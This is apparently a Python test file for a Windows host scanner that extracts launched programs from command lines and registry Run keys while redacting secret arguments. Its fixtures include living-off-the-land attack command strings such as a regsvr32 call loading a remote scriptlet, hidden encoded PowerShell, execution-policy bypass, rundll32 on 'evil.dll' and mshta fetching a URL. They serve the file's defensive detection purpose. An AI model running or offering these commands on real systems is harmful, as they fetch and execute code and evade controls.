"""What a Windows command line starts, and what of it never leaves the backend."""

from __future__ import annotations

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ybscan.hosts.groups.registry import Registry
from ybscan.hosts.windows.commandline import ADDRESS, ENCODED, INLINE, programs
from ybscan.hosts.windows.tree import Key, TreeRegistry
from ybscan.model.reading import Absent, Cause, Known, Unknown


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("", ()),
        ("   ", ()),
        (r'"C:\Program Files\His\his.exe" /user admin /password geheim', (r"C:\Program Files\His\his.exe",)),
        (r"C:\Program Files (x86)\Skype\Phone\Skype.exe /nosplash", (r"C:\Program Files (x86)\Skype\Phone\Skype.exe",)),
        (r"C:\医保 读卡\读卡.exe -x", (r"C:\医保 读卡\读卡.exe",)),
        ("ctfmon", ("ctfmon",)),
        ("ctfmon.exe", ("ctfmon.exe",)),
        (r"cmd /c C:\bak\run.bat geheim", ("cmd", r"C:\bak\run.bat")),
        (r'wscript.exe "C:\Users\Public\a b.vbs" //B', ("wscript.exe", r"C:\Users\Public\a b.vbs")),
        (r"rundll32.exe C:\x\evil.dll,Start 1", ("rundll32.exe", r"C:\x\evil.dll")),
        (r"regsvr32 /s /i:C:\x\a.sct scrobj.dll", ("regsvr32", r"C:\x\a.sct", "scrobj.dll")),
        ("regsvr32 /s /n /u /i:http://10.0.0.1/a.sct scrobj.dll", ("regsvr32", ADDRESS, "scrobj.dll")),
        ("powershell -nop -w hidden -enc SQBFAFgA", ("powershell", ENCODED)),
        ("powershell.exe -EncodedCommand SQBFAFgA", ("powershell.exe", ENCODED)),
        (r"powershell -ExecutionPolicy Bypass -File C:\s\a.ps1", ("powershell", r"C:\s\a.ps1")),
        ("mshta javascript:a=1", ("mshta", INLINE)),
        ("mshta https://example.test/x", ("mshta", ADDRESS)),
        ('"C:\\unclosed path\\x.exe', ("C:\\unclosed path\\x.exe",)),
    ],
)
def test_programs(command: str, expected: tuple[str, ...]) -> None:
    assert programs(command) == expected


@given(st.text(alphabet=string.ascii_letters + string.digits, min_size=12, max_size=20))
def test_no_plain_argument_gets_out(secret: str) -> None:
    for command in (
        f'"C:\\a\\b.exe" /p {secret}',
        f"C:\\a\\b.exe {secret}",
        f"cmd /c echo {secret}",
        f"powershell -enc {secret}",
        f"mshta http://user:{secret}@host/",
    ):
        assert secret not in "".join(programs(command))


@given(st.text())
def test_any_text_is_survived(command: str) -> None:
    found = programs(command)
    assert len(found) <= 8
    assert all(len(p) <= 400 for p in found)


def test_the_question_tells_no_line() -> None:
    key = r"HKLM\SOFTWARE\Run"
    root = Key("")
    root.make(("HKLM", "SOFTWARE", "Run")).values.update({"A": r"C:\a.exe /p geheim", "B": 5, "C": ""})
    refused = {r"HKLM\SOFTWARE\No": Unknown(Cause.DENIED)}
    registry = TreeRegistry(root, covered=("HKLM",), origin="test", refused=refused)
    assert registry.commands(key=key) == Known({"A": (r"C:\a.exe",), "C": ()}, key)
    assert isinstance(registry.commands(key=r"HKLM\SOFTWARE\None"), Absent)
    assert registry.commands(key=r"HKLM\SOFTWARE\No") == Unknown(Cause.DENIED)
    unsupported = Registry().commands(key=key)
    assert isinstance(unsupported, Unknown)
    assert unsupported.cause is Cause.UNSUPPORTED
